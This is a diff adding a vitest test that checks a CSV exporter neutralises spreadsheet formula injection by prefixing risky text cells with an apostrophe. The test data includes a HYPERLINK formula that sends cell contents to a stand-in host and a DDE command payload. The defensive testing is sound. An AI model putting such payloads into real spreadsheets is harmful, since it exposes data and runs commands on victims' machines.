@@ -1,7 +1,7 @@
 import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { describe, expect, it, vi } from "vitest";
+import { describe, expect, it, onTestFinished, vi } from "vitest";
 import { feasibleParetoFront } from "../analysis/index.js";
 import type { Distribution, JsonValue, ParamValue } from "../space/index.js";
 import { SCHEDULER_ATTR, populationLineage, segmentAttrs } from "../schedulers/index.js";
@@ -172,6 +172,40 @@ describe("sextant export --format csv", () => {
       }
     });
   }, 60_000);
+});
+
+describe("sextant export: CSV a spreadsheet opens without running formulas", () => {
+  it("starts text cells that a spreadsheet would run with a ', and leaves numbers, negative ones too, as they are", async () => {
+    const dir = mkdtempSync(join(tmpdir(), "sextant-export-"));
+    onTestFinished(() => rmSync(dir, { recursive: true }));
+    const storage = SqliteStorage.open(join(dir, "f.db"));
+    const study = await storage.createStudy("f", ["minimize"]);
+    const flag: Distribution = { type: "categorical", choices: ["-O2", "=1+1", "@x", "-1", -3, "plain"] };
+    const x: Distribution = { type: "float", low: -5, high: 5 };
+    const add = async (choice: ParamValue, patch: Parameters<typeof storage.updateTrial>[1]) => {
+      const trial = await storage.createTrial(study.id, { state: "running" });
+      await storage.updateTrial(trial.id, { params: { flag: { value: choice, distribution: flag }, x: { value: -2.5, distribution: x } }, ...patch });
+    };
+    await add("-O2", { state: "complete", values: [-1.5] });
+    await add("=1+1", { state: "failed", systemAttrs: { failReason: '=HYPERLINK("https://x.test/?"&A2,"details")' } });
+    await add("@x", { state: "complete", values: [-Infinity] });
+    await add("-1", { state: "complete", values: [2] });
+    await add(-3, { state: "failed", systemAttrs: { failReason: "+cmd|' /C calc'!A0" } });
+    await storage.close();
+    let text = "";
+    expect(await exportCommand("f", { storage: `sqlite:${join(dir, "f.db")}` }, { ...quietIo, write: (piece) => (text += piece) })).toBe(0);
+    const rows = text.trimEnd().split("\r\n").map((line) => line.split(","));
+    expect(rows[0]!.slice(0, 5)).toEqual(["number", "state", "value", "params_flag", "params_x"]);
+    expect(rows.slice(1).map((row) => row.slice(2, 5))).toEqual([
+      ["-1.5", "'-O2", "-2.5"],
+      ["", "'=1+1", "-2.5"],
+      ["-Infinity", "'@x", "-2.5"],
+      ["2", "-1", "-2.5"],
+      ["", "-3", "-2.5"],
+    ]);
+    expect(text).toContain(`"'=HYPERLINK(""https://x.test/?""&A2,""details"")"`);
+    expect(rows[5]!.at(-1)).toBe("'+cmd|' /C calc'!A0");
+  });
 });
 
 describe("sextant trials", () => {
